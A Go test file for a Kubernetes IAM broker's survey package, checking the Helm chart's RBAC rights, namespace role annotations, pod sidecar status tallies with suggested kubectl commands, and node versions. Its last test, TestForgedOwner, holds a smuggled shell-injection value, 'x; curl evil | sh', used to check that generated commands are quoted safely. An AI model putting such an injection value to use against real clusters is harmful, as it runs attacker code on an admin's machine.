package survey

import (
	"fmt"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"sigs.k8s.io/yaml"

	"github.com/credence-iam/credence/broker/policy"
	"github.com/credence-iam/credence/operator/finding"
	"github.com/credence-iam/credence/operator/installation"
)

// golden is the rendered chart, which tests of the chart compare with Helm's output.
const golden = "../../integration/chart/testdata/defaults.golden.yaml"

// chartObjects returns the objects of one kind in the chart, by name.
func chartObjects[T any](t *testing.T, kind string) map[string]*T {
	t.Helper()
	text, err := os.ReadFile(golden)
	if err != nil {
		t.Fatal(err)
	}
	all := make(map[string]*T)
	for document := range strings.SplitSeq(string(text), "\n---\n") {
		var head metav1.PartialObjectMetadata
		if err := yaml.Unmarshal([]byte(document), &head); err != nil {
			t.Fatal(err)
		}
		if head.Kind != kind {
			continue
		}
		all[head.Name] = new(T)
		if err := yaml.UnmarshalStrict([]byte(document), all[head.Name]); err != nil {
			t.Fatal(err)
		}
	}
	if len(all) == 0 {
		t.Fatalf("the chart has no %s", kind)
	}
	return all
}

// newSnapshot returns the snapshot of an installation of the chart, with these limits.
func newSnapshot(t *testing.T, limits *policy.File) *Snapshot {
	t.Helper()
	deployments := chartObjects[appsv1.Deployment](t, "Deployment")
	s := &Snapshot{Now: time.Now(), Namespace: "credence", Found: &installation.Installation{
		Namespace: "credence", Broker: deployments[installation.BrokerName], Webhook: deployments[installation.WebhookName],
	}}
	s.prepare(limits)
	return s
}

// The rights that are asked for are those of the chart, and no others.
func TestRightsOfTheChart(t *testing.T) {
	given := make(map[string]bool)
	add := func(who, namespace string, rules []rbacv1.PolicyRule) {
		for _, rule := range rules {
			for _, verb := range rule.Verbs {
				for _, path := range rule.NonResourceURLs {
					given[who+": "+verb+" "+path] = true
				}
				for _, group := range rule.APIGroups {
					for _, resource := range rule.Resources {
						for _, name := range append(slices.Clone(rule.ResourceNames), "")[:max(1, len(rule.ResourceNames))] {
							given[fmt.Sprintf("%s: %s %s.%s/%s -n %s", who, verb, resource, group, name, namespace)] = true
						}
					}
				}
			}
		}
	}
	for name, role := range chartObjects[rbacv1.ClusterRole](t, "ClusterRole") {
		add(strings.TrimPrefix(name, "credence-"), "", role.Rules)
	}
	for name, role := range chartObjects[rbacv1.Role](t, "Role") {
		if name != "credence-check" { // of the chart's own check
			add(strings.TrimPrefix(name, "credence-"), "credence", role.Rules)
		}
	}
	wanted := make(map[string]bool)
	for _, r := range newSnapshot(t, nil).wantedRights() {
		if n := r.What.NonResourceAttributes; n != nil {
			wanted[r.Who+": "+n.Verb+" "+n.Path] = true
		} else {
			a := r.What.ResourceAttributes
			wanted[fmt.Sprintf("%s: %s %s.%s/%s -n %s", r.Who, a.Verb, a.Resource, a.Group, a.Name, a.Namespace)] = true
		}
		if want := "system:serviceaccount:credence:credence-" + r.Who; r.What.User != want {
			t.Errorf("user %s, want %s", r.What.User, want)
		}
	}
	if diff := cmp.Diff(given, wanted); diff != "" {
		t.Errorf("the chart gives, and is asked for (-+):\n%s", diff)
	}
}

const (
	prefix    = "iam.amazonaws.com/"
	permitted = prefix + "permitted"
	allowed   = prefix + "allowed-roles"
)

// What a namespace permits is evaluated, not compared.
func TestNamespaces(t *testing.T) {
	limited := func(match, role string) *policy.File {
		return &policy.File{Namespaces: []policy.NamespaceRules{{Match: []string{match}, Accounts: []string{"*"}, Roles: []string{role}}}}
	}
	for _, tt := range []struct {
		name        string
		limits      *policy.File
		annotations map[string]string
		want        func(*Namespaces) *Tally
	}{
		{"one role", nil, map[string]string{permitted: "arn:aws:iam::123456789012:role/shop-.*"}, nil},
		{"everything", nil, map[string]string{permitted: ".*"}, (*Namespaces).any},
		{"everything in other words", nil, map[string]string{permitted: `arn:aws:iam::[0-9]+:role/(\w|\W)+`}, (*Namespaces).any},
		{"everything as a glob", nil, map[string]string{allowed: `["arn:*"]`}, (*Namespaces).any},
		{"everything by two annotations", nil, map[string]string{permitted: "x", allowed: `["arn:*"]`}, (*Namespaces).any},
		{"everything but limited", limited("shop", "/shop/*"), map[string]string{permitted: ".*"}, nil},
		{"an account", nil, map[string]string{permitted: "arn:aws:iam::123456789012:role/.*"}, (*Namespaces).account},
		{"an account of two", nil, map[string]string{permitted: "arn:aws:iam::(123456789012|210987654321):role/.+"}, (*Namespaces).account},
		{"the brokers' account", nil, map[string]string{allowed: `["*"]`}, (*Namespaces).account},
		{"nothing", nil, nil, (*Namespaces).none},
		{"no rule", limited("other", "*"), map[string]string{permitted: ".*"}, (*Namespaces).none},
		{"an invalid expression", nil, map[string]string{permitted: "("}, (*Namespaces).wrong},
	} {
		t.Run(tt.name, func(t *testing.T) {
			s := newSnapshot(t, tt.limits)
			n := Namespaces{OptedIn: map[string]bool{}, Levels: map[string]int{}}
			n.Add(s, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: "shop", Labels: map[string]string{prefix + "inject": "enabled"}, Annotations: tt.annotations}})
			total := n.AnyRole.Count + n.AccountRole.Count + n.Nothing.Count + n.Invalid.Count
			if !n.OptedIn["shop"] || tt.want == nil && total != 0 || tt.want != nil && (total != 1 || tt.want(&n).Count != 1) {
				t.Errorf("%+v", n)
			}
		})
	}
	s, n := newSnapshot(t, nil), Namespaces{OptedIn: map[string]bool{}, Levels: map[string]int{}}
	for _, value := range []string{"true", "disabled", "Enabled"} {
		n.Add(s, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: "ns", Labels: map[string]string{prefix + "inject": value}}})
	}
	if n.BadLabel.Count != 2 || len(n.OptedIn) != 0 || n.Total != 3 || n.Nothing.Count != 0 {
		t.Errorf("%+v", n)
	}
}

func (n *Namespaces) any() *Tally     { return &n.AnyRole }
func (n *Namespaces) account() *Tally { return &n.AccountRole }
func (n *Namespaces) none() *Tally    { return &n.Nothing }
func (n *Namespaces) wrong() *Tally   { return &n.Invalid }

// injectedPod returns a pod as the webhook of the chart makes it.
func injectedPod(t *testing.T) *corev1.Pod {
	t.Helper()
	text, err := os.ReadFile("../../webhook/inject/testdata/containers.out.yaml")
	if err != nil {
		t.Fatal(err)
	}
	var pod corev1.Pod
	if err := yaml.UnmarshalStrict(text, &pod); err != nil {
		t.Fatal(err)
	}
	pod.Namespace = "shop"
	sidecarOf(&pod.Spec).Image = "ghcr.io/credence-iam/credence-sidecar:0.1.0"
	return &pod
}

func TestPods(t *testing.T) {
	for _, tt := range []struct {
		name    string
		change  func(*Snapshot, *corev1.Pod)
		want    func(*Pods) *Tally
		example string
		command string
	}{
		{"good", func(*Snapshot, *corev1.Pod) {}, nil, "", ""},
		{"no sidecar", func(_ *Snapshot, p *corev1.Pod) {
			p.Spec.InitContainers = nil
			p.OwnerReferences = []metav1.OwnerReference{{Kind: "ReplicaSet", Name: "cart-5d9"}}
			p.Labels["pod-template-hash"] = "5d9"
		}, func(p *Pods) *Tally { return &p.Without }, "shop/app", "kubectl -n shop rollout restart deployment/cart"},
		{"no label", func(_ *Snapshot, p *corev1.Pod) { p.Labels = nil }, func(p *Pods) *Tally { return &p.Without }, "shop/app", "kubectl -n shop delete pod app"},
		{"ended", func(_ *Snapshot, p *corev1.Pod) { p.Labels, p.Status.Phase = nil, corev1.PodSucceeded }, nil, "", ""},
		{"not opted in", func(_ *Snapshot, p *corev1.Pod) { p.Namespace, p.Spec.InitContainers = "other", nil }, func(p *Pods) *Tally { return &p.NotOptedIn }, "other/app", "kubectl label namespace other iam.amazonaws.com/inject=enabled"},
		{"old", func(_ *Snapshot, p *corev1.Pod) {
			p.Spec.InitContainers[0].Image = "x/credence-sidecar:0.4.0@sha256:00"
		}, func(p *Pods) *Tally { return &p.Apart }, "shop/app (0.4.0)", "kubectl -n shop delete pod app"},
		{"another audience", func(_ *Snapshot, p *corev1.Pod) {
			p.Spec.Volumes[0].Projected.Sources[0].ServiceAccountToken.Audience = "earlier"
		}, func(p *Pods) *Tally { return &p.Outdated }, "shop/app (audience earlier)", "kubectl -n shop delete pod app"},
		{"another ConfigMap", func(_ *Snapshot, p *corev1.Pod) { p.Spec.Volumes[0].Projected.Sources[1].ConfigMap.Name = "earlier" }, func(p *Pods) *Tally { return &p.Outdated }, "shop/app (ConfigMap earlier)", "kubectl -n shop delete pod app"},
		{"another broker", func(_ *Snapshot, p *corev1.Pod) { p.Spec.InitContainers[0].Env[0].Value = "earlier:9443" }, func(p *Pods) *Tally { return &p.Outdated }, "shop/app (broker earlier:9443)", "kubectl -n shop delete pod app"},
		{"waiting", func(s *Snapshot, p *corev1.Pod) {
			p.Status.InitContainerStatuses = []corev1.ContainerStatus{{Name: "credence-sidecar", State: corev1.ContainerState{
				Running: &corev1.ContainerStateRunning{StartedAt: metav1.NewTime(s.Now.Add(-3 * time.Minute))},
			}}}
		}, func(p *Pods) *Tally { return &p.Waiting }, "shop/app", "kubectl -n shop logs app -c credence-sidecar"},
		{"restarting", func(_ *Snapshot, p *corev1.Pod) {
			p.Status.InitContainerStatuses = []corev1.ContainerStatus{{Name: "credence-sidecar", RestartCount: 9}}
		}, func(p *Pods) *Tally { return &p.Restarting }, "shop/app (9 times)", "kubectl -n shop logs app -c credence-sidecar --previous"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			s, pod := newSnapshot(t, nil), injectedPod(t)
			s.Namespaces.Value.OptedIn = map[string]bool{"shop": true}
			tt.change(s, pod)
			p := Pods{Versions: map[string]int{}}
			p.Add(s, pod)
			count := 0
			for _, tally := range []Tally{p.Without, p.NotOptedIn, p.Apart, p.Outdated, p.Waiting, p.Restarting} {
				count += tally.Count
			}
			switch {
			case tt.want == nil && count != 0, tt.want != nil && count != 1:
				t.Errorf("%+v", p)
			case tt.want != nil:
				if got := tt.want(&p); got.Count != 1 || got.Examples[0] != tt.example || got.Commands[0] != tt.command {
					t.Errorf("%+v", got)
				}
			}
		})
	}
}

// The memory of a tally is bounded, whatever is counted.
func TestTally(t *testing.T) {
	var tally Tally
	for n := range 10_000 {
		tally.Add(fmt.Sprint("pod-", n), fmt.Sprint("kubectl delete pod-", n))
	}
	if tally.Count != 10_000 || len(tally.Examples) != MaxExamples || len(tally.Commands) != MaxExamples || tally.String() != "pod-0, pod-1, pod-2, pod-3, pod-4, …" {
		t.Errorf("%+v", tally)
	}
}

func TestNodes(t *testing.T) {
	var n Nodes
	for _, version := range []string{"v1.28.5", "v1.29.0", "v1.37.2", ""} {
		n.Add(&Snapshot{}, &corev1.Node{ObjectMeta: metav1.ObjectMeta{Name: "n" + version}, Spec: corev1.NodeSpec{ProviderID: "aws:///eu-west-1a/i-1"}, Status: corev1.NodeStatus{NodeInfo: corev1.NodeSystemInfo{KubeletVersion: version}}})
	}
	if n.Total != 4 || n.EC2 != 4 || n.Old.Count != 1 || n.Old.Examples[0] != "nv1.28.5 (v1.28.5)" {
		t.Errorf("%+v", n)
	}
}

// TestForgedOwner: the API server accepts any name of an owner, so the author of a pod can write what an admin then pastes.
func TestForgedOwner(t *testing.T) {
	s := &Snapshot{Target: finding.Cluster{Context: "prod"}}
	for kind, want := range map[string]string{
		"StatefulSet": `kubectl --context=prod -n shop rollout restart statefulset/'x; curl evil | sh'`,
		"ReplicaSet":  `kubectl --context=prod -n shop rollout restart deployment/'x; curl evil | sh'`,
		"Job":         `kubectl --context=prod -n shop delete pod cart`,
	} {
		name := "x; curl evil | sh"
		if kind == "ReplicaSet" {
			name += "-1"
		}
		got := s.restart(&corev1.Pod{ObjectMeta: metav1.ObjectMeta{
			Namespace: "shop", Name: "cart", Labels: map[string]string{"pod-template-hash": "1"}, OwnerReferences: []metav1.OwnerReference{{Kind: kind, Name: name}},
		}})
		if got != want {
			t.Errorf("%s: command is %s, want %s", kind, got, want)
		}
	}
}
